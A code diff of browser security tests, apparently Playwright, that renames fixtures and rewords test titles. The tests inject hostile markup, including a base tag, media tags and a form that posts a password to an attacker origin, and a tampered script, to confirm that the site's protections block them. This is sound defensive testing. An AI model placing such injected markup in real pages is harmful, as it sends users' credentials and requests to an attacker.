@@ -1,18 +1,18 @@
-import { expect, test as withHouse } from './fixtures.ts';
+import { expect, test as withStack } from './fixtures.ts';
 import { allSinks, EVIL, MARKUP, ranOn, SINKS, visit } from './injection.ts';
-import { expectTrouble } from './manners.ts';
+import { allowErrors } from './page-guards.ts';
 
-const test = withHouse.extend({
-  // A service worker would fetch the documents that these tests change.
+const test = withStack.extend({
+  // A service worker would fetch the documents that these tests modify.
   contextOptions: ({ contextOptions }, use) => use({ ...contextOptions, serviceWorkers: 'block' }),
 });
 
-// What a browser tells of every attack that it stops, and, where nothing stops it, of requests to the other origin.
-test.beforeEach(({ context }) => expectTrouble(context, /./));
+// Browsers log every blocked attack; the unprotected control also sends requests to the other origin.
+test.beforeEach(({ context }) => allowErrors(context, /./));
 
-test('[R15] markup that got into a page runs nothing, whatever it is made of', async ({ context, house }) => {
+test('[R15] injected markup of any kind runs nothing', async ({ context, stack }) => {
   const look = async (isBare: boolean) => {
-    const visited = await visit(context, house.origin, { markup: Object.values(MARKUP).join('\n'), isBare });
+    const visited = await visit(context, stack.origin, { markup: Object.values(MARKUP).join('\n'), isBare });
     await visited.page.locator('#press').dispatchEvent('click');
     return visited;
   };
@@ -25,8 +25,8 @@ test('[R15] markup that got into a page runs nothing, whatever it is made of', a
   expect(taken).toEqual([]);
 });
 
-test('[R15] a text that reaches one of the browser’s doors to code is refused there', async ({ context, house }) => {
-  const tried = (isBare: boolean) => visit(context, house.origin, { script: allSinks(), isBare });
+test('[R15] text that reaches one of the browser’s injection sinks is blocked there', async ({ context, stack }) => {
+  const tried = (isBare: boolean) => visit(context, stack.origin, { script: allSinks(), isBare });
   const bare = await tried(true);
   await expect.poll(() => ranOn(bare.page)).toEqual(expect.arrayContaining(Object.keys(SINKS)));
 
@@ -36,7 +36,7 @@ test('[R15] a text that reaches one of the browser’s doors to code is refused 
   expect(taken).toEqual([]);
 });
 
-test('[R15] a base, a form, a style or a picture from markup leads nothing elsewhere', async ({ context, house }) => {
+test('[R15] an injected base, form, style or picture sends nothing to another origin', async ({ context, stack }) => {
   const markup = `
     <base href="${EVIL}/">
     <style>#marked { position: fixed }</style>
@@ -45,7 +45,7 @@ test('[R15] a base, a form, a style or a picture from markup leads nothing elsew
     <img src="${EVIL}/pixel.png"><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><iframe src="${EVIL}/frame"></iframe>
     <form id="form" action="${EVIL}/form" method="post"><input name="password" value="typed"><button id="send">send</button></form>`;
   const look = async (isBare: boolean) => {
-    const { page, taken } = await visit(context, house.origin, { markup, isBare });
+    const { page, taken } = await visit(context, stack.origin, { markup, isBare });
     const base = await page.evaluate(() => document.baseURI);
     const { position, opacity } = await page.locator('#marked').evaluate((marked) => {
       const style = getComputedStyle(marked);
@@ -60,21 +60,21 @@ test('[R15] a base, a form, a style or a picture from markup leads nothing elsew
   expect(bare).toMatchObject({ base: `${EVIL}/`, position: 'fixed', opacity: '0.5' });
 
   const { page, ...guarded } = await look(false);
-  expect(guarded).toEqual({ taken: [], base: `${house.origin}/login`, position: 'static', opacity: '1' });
-  expect(page.url()).toBe(`${house.origin}/login`);
+  expect(guarded).toEqual({ taken: [], base: `${stack.origin}/login`, position: 'static', opacity: '1' });
+  expect(page.url()).toBe(`${stack.origin}/login`);
 });
 
-test('[R13 R15] a listed script that was changed on the way does not run', async ({ context, house }) => {
-  const html = await (await context.request.get(`${house.origin}/login`)).text();
+test('[R13 R15] a listed script that was changed in transit does not run', async ({ context, stack }) => {
+  const html = await (await context.request.get(`${stack.origin}/login`)).text();
   const [entry = ''] = /\/assets\/shell[\w.-]+\.js/.exec(html) ?? [];
-  const real = await (await context.request.get(house.origin + entry)).text();
+  const real = await (await context.request.get(stack.origin + entry)).text();
   const page = await context.newPage();
   await page.route(
     (url) => url.pathname === entry,
     (route) => route.fulfill({ contentType: 'text/javascript', body: `globalThis.ran = ['changed'];\n${real}` }),
   );
   const refused = page.waitForEvent('console', (message) => /integrity|digest/i.test(message.text()));
-  await page.goto(`${house.origin}/login`);
+  await page.goto(`${stack.origin}/login`);
   await refused;
   expect(await ranOn(page)).toEqual([]);
 });
